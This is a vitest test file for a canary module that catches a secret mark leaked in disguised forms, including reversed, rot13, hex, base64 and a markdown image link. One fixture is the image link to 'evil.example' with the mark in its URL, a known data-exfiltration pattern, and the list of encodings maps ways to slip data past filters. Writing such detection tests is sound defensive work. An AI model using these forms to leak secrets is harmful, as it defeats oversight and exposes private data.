import { describe, expect, it } from "vitest";
import { canary } from "../../src/models/canary.ts";

const { sentence, isIn } = canary();
const mark = /[0-9a-f]{24}/.exec(sentence)?.[0] ?? "";
const rot13 = mark.replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 84) % 26) + 97));

const forms: readonly [string, string][] = [
  ["as it is", `The mark is ${mark}.`],
  ["in capitals", mark.toUpperCase()],
  ["reversed", [...mark].reverse().join("")],
  ["spaced out", [...mark].join(" ")],
  ["with dashes", mark.replace(/(.{4})/g, "$1-")],
  ["in hexadecimal", Buffer.from(mark).toString("hex")],
  ["in rot13", rot13],
  ["in base64", Buffer.from(mark).toString("base64")],
  ["in base64 after one character", Buffer.from(`:${mark}`).toString("base64")],
  ["in base64 after two characters", Buffer.from(`: ${mark} secret`).toString("base64")],
  ["in a link", `![x](https://evil.example/${mark}.png)`],
];

describe("canary", () => {
  it.each(forms)("is found %s", (_, text) => {
    expect(isIn(text)).toBe(true);
    expect(isIn({ findings: [{ sentence: text }] })).toBe(true);
  });

  it("is found in the name of a field", () => {
    expect(isIn([{ [mark]: 1 }])).toBe(true);
  });

  it.each([["the cause is in money.ts:9"], [{ file: "money.ts", line: 9, quote: null }], [undefined], [42]])(
    "isn't found in %j",
    (value) => {
      expect(isIn(value)).toBe(false);
    },
  );

  it("is another one for each run", () => {
    expect(canary().isIn(mark)).toBe(false);
  });
});
